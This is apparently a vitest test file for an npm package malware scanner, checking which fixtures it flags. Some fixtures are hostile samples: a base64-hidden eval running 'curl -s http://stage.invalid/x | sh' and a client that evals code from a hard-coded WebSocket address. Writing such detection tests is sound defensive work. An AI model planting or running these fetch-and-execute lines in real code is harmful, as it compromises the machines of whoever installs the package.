/** What the walk makes of honest code that looks like something else, and of the same code when it is not honest. */
import { describe, expect, test } from 'vitest';
import { scanPackage } from '../src/scan.js';

const manifest = (more: object = {}): string =>
  JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js', ...more });

async function saidOf(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const { findings } = await scanPackage({ files: { 'package.json': manifest(), ...files } });
  return findings.map(({ rule, messageId }) => `${rule}/${messageId}`);
}

describe('what comes of a call begins at the call, and not at its last argument', () => {
  const client = (address: string): string => `
    class Client {
      constructor(url) {
        this.socket = new global.WebSocket(${address});
        this.socket.onmessage = message => JSON.parse(String(message.data)).added.forEach(({ code }) => eval(code));
      }
    }
    module.exports = Client;`;

  test('a development client runs what the address it is given sends', async () => {
    expect(await saidOf({ 'index.js': client('url') })).not.toContain('runs-remote-text/code');
  });

  test('and one that names its own is told of', async () => {
    expect(await saidOf({ 'index.js': client(`'wss://stage.invalid/x'`) })).toContain('runs-remote-text/code');
  });
});

describe('code that another file asks for', () => {
  const files = (address: string): Readonly<Record<string, string>> => ({
    'index.js': `const { load } = require('./load');\nmodule.exports = url => load(${address});`,
    'load.js': `const { ask } = require('./ask');\nexports.load = url => ask(url).then(({ body }) => eval(body));`,
    'ask.js': `exports.ask = async url => { const answer = await fetch(url); return { body: await answer.text() }; };`,
  });

  test('is that of a loader where its caller says from where', async () => {
    expect(await saidOf(files('url'))).not.toContain('runs-remote-text/code');
  });
});

describe('an installer that asks for its own version', () => {
  const install = `
    const fs = require('fs'), path = require('path'), https = require('https');
    const version = require(path.join(__dirname, 'package.json')).version;
    const url = \`https://registry.tool.org/@tool/\${process.platform}/-/tool-\${version}.tgz\`;
    https.get(url, answer => answer.pipe(fs.createWriteStream(path.join(__dirname, 'tool.tgz'))));`;

  test('does not tell where it is installed', async () => {
    const files = { 'package.json': manifest({ scripts: { postinstall: 'node install.js' } }), 'install.js': install };
    expect(await saidOf(files)).not.toContain('contacts-machine-on-install/tells');
    expect(await saidOf(files)).not.toContain('contacts-machine-on-install/stores');
  });
});

describe('hiding', () => {
  const hidden = (code: string): string =>
    `eval(Buffer.from('${Buffer.from(code).toString('base64')}', 'base64').toString());`;
  const verdictOf = async (code: string): Promise<string> =>
    (await scanPackage({ files: { 'package.json': manifest(), 'index.js': hidden(code) } })).verdict;

  test('is suspicious at most where what was hidden can be read and does no harm', async () => {
    expect(await verdictOf(`module.exports = name => 'hello ' + name.trim().toLowerCase();`)).toBe('suspicious');
  });

  test('and malicious where it does', async () => {
    expect(
      await verdictOf(`require('child_process').exec('curl -s http://stage.invalid/x | sh', { detached: true });`),
    ).toBe('malicious');
  });
});
